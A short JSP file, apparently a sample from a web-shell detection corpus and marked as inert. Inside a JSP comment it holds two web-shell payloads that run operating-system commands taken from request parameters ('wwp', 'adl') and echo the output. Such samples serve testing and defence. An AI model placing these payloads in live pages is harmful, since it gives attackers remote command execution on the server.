<%-- hegui corpus: inert sample
${Runtime.getRuntime().exec(param.wwp)}
<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("adl")).getInputStream()).useDelimiter("\\A").next()); %>
--%>
